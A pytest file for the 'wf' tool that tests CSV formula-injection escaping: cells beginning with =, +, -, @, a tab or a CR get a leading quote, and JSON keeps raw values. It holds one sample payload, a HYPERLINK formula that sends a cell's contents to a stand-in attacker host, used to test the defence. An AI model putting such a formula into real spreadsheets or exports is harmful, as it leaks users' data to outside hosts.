"""Every CSV ``wf`` writes escapes the cells a spreadsheet would evaluate (text starting with
``=``, ``+``, ``-``, ``@``, a tab or a CR gets a leading single quote, as OWASP recommends);
JSON keeps the raw value."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import run_wf
from wf_magic.display.events import event_csv_row
from wf_magic.display.spreadsheet import FORMULA_STARTS, csv_cell, csv_frame
from wf_magic.store.records import EventRow

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

WORKFLOW = f"""
name: csv-demo
params:
  style: {{type: string, default: terse}}
runner: scripted
runners:
  scripted:
    rules:
      - {{match: ".*", reply: {json.dumps(FORMULA)}, tokens_in: 1, tokens_out: 1}}
steps:
  - id: write
    model: "@evil"
    prompt: "Write {{{{ params.style }}}}"
"""


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=x", "'=x"),
        (-1, -1),
        (2.5, 2.5),
        (None, None),
        ({"k": 0, "a": [1]}, '{"a": [1], "k": 0}'),  # a JSONL row's object: JSON, not repr
        (["x", "é"], '["x", "é"]'),
        (["=x"], '["=x"]'),
    ],
)
def test_a_formula_like_text_cell_gets_a_leading_quote(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


@given(st.text())
def test_no_escaped_cell_starts_like_a_formula_and_the_text_is_kept(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


def test_a_frame_escapes_text_cells_and_column_names_but_not_numbers() -> None:
    frame = pd.DataFrame({"=name": ["-a", "b"], "n": [-1, 2], "x": [None, "@y"]})
    out = csv_frame(frame)
    assert list(out.columns) == ["'=name", "n", "x"]
    assert out["'=name"].tolist() == ["'-a", "b"]
    assert out["n"].tolist() == [-1, 2]
    assert pd.isna(out["x"].iloc[0]) and out["x"].iloc[1] == "'@y"
    assert frame["=name"].tolist() == ["-a", "b"]  # the caller's frame is not changed


def test_wf_events_csv_rows_escape_formula_like_cells() -> None:
    row = EventRow(
        event_id=7,
        run_id="r-1",
        at=0.0,
        kind="warning",
        step_id="-s",
        unit_id="@u",
        dispatch_id="+d",
        data_json='{"message": "=1"}',
    )
    cells = event_csv_row(row)
    assert cells[4:7] == ["'-s", "'@u", "'+d"]
    assert cells[7] == '{"message": "=1"}'


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_wf_sweep_frame_and_wf_journal_csv_escape_while_json_keeps_the_raw_value(
    tmp_path: Path,
) -> None:
    flow = tmp_path / "flow.yaml"
    flow.write_text(WORKFLOW)
    state = tmp_path / "state"
    done = run_wf(state, "sweep", str(flow), "--grid", "style=-2+3,@me,plain", "--quiet")
    assert done.returncode == 0, done.stderr
    sweep_id = done.stdout.split()[1]

    out = run_wf(state, "sweep-frame", sweep_id, "--format", "csv")
    assert out.returncode == 0, out.stderr
    rows = _csv(out.stdout)
    assert [r["style"] for r in rows] == ["'-2+3", "'@me", "plain"]
    assert {r["result"] for r in rows} == {"'" + FORMULA}

    raw = json.loads(run_wf(state, "sweep-frame", sweep_id, "--format", "json").stdout)
    assert [r["style"] for r in raw] == ["-2+3", "@me", "plain"]
    assert {r["result"] for r in raw} == {FORMULA}

    # `wf journal` (every frame verb's --format csv) goes through the same helper.
    run_id = rows[0]["run_id"]
    journal = _csv(run_wf(state, "journal", run_id, "--format", "csv").stdout)
    assert [r["model"] for r in journal] == ["'@evil"]
    journal_json = json.loads(run_wf(state, "journal", run_id, "--format", "json").stdout)
    assert [r["model"] for r in journal_json] == ["@evil"]
